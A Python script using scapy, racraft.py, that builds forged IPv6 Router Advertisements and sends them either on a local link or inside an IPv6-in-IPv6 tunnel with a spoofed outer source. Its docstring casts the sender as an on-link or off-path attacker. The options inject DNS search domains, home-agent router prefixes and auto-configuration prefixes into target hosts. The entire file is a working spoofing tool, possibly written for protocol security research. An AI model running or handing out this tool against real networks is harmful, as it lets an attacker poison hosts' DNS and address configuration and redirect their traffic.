#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""racraft.py - a well-formed Router Advertisement, sent either on a link
(an on-link attacker) or inside IPv6-in-IPv6 with a forged outer source (an
off-path attacker who knows the anchor's address, the host's care-of address
and one of its anchored addresses).

  on-link:  racraft.py link IFACE [opts]
  tunnel:   racraft.py tunnel OUTER_SRC OUTER_DST INNER_DST [opts]
opts: --dnssl DOMAIN  --ha-router ADDR (H flag + PIO with R flag carrying ADDR)
      --ha-pref N --ha-life S --router-life S (default 0: not a default router)
      --slaac PREFIX (a /64 Prefix Information option, L and A set: hosts
      form an address in it) --slaac-life S (its valid and preferred lifetime)
      --count N
"""
import argparse, sys
from scapy.all import (IPv6, ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, ICMPv6NDOptDNSSL,
                       ICMPv6NDOptHAInfo, Ether, sendp, send, conf)
conf.verb = 0

ap = argparse.ArgumentParser()
ap.add_argument("mode", choices=["link", "tunnel"])
ap.add_argument("args", nargs="+")
ap.add_argument("--dnssl")
ap.add_argument("--dnssl-life", type=int, default=600)
ap.add_argument("--ha-router", action="append", default=[])
ap.add_argument("--ha-pref", type=int, default=0)
ap.add_argument("--ha-life", type=int, default=600)
ap.add_argument("--h-flag", type=int, default=None)
ap.add_argument("--router-life", type=int, default=0)
ap.add_argument("--slaac")
ap.add_argument("--slaac-life", type=int, default=3600)
ap.add_argument("--src", default="fe80::bad")
ap.add_argument("--count", type=int, default=1)
a = ap.parse_args()

h = 1 if (a.ha_router and a.h_flag is None) else (a.h_flag or 0)
ra = ICMPv6ND_RA(H=h, routerlifetime=a.router_life)
for r in a.ha_router:
    ra /= ICMPv6NDOptPrefixInfo(prefix=r, prefixlen=64, L=0, A=0, R=1,
                                validlifetime=0, preferredlifetime=0)
if a.slaac:
    ra /= ICMPv6NDOptPrefixInfo(prefix=a.slaac, prefixlen=64, L=1, A=1,
                                validlifetime=a.slaac_life, preferredlifetime=a.slaac_life)
if h:
    ra /= ICMPv6NDOptHAInfo(pref=a.ha_pref, lifetime=a.ha_life)
if a.dnssl:
    ra /= ICMPv6NDOptDNSSL(lifetime=a.dnssl_life, searchlist=[a.dnssl + "."])

if a.mode == "link":
    (iface,) = a.args
    pkt = Ether(dst="33:33:00:00:00:01") / IPv6(src=a.src, dst="ff02::1", hlim=255) / ra
    for _ in range(min(a.count, 100)):
        sendp(pkt, iface=iface)
else:
    osrc, odst, idst = a.args
    pkt = IPv6(src=osrc, dst=odst, nh=41) / IPv6(src=a.src, dst=idst, hlim=255) / ra
    for _ in range(min(a.count, 100)):
        send(pkt)
print("sent %d RA(s) (%s)" % (min(a.count, 100), a.mode))
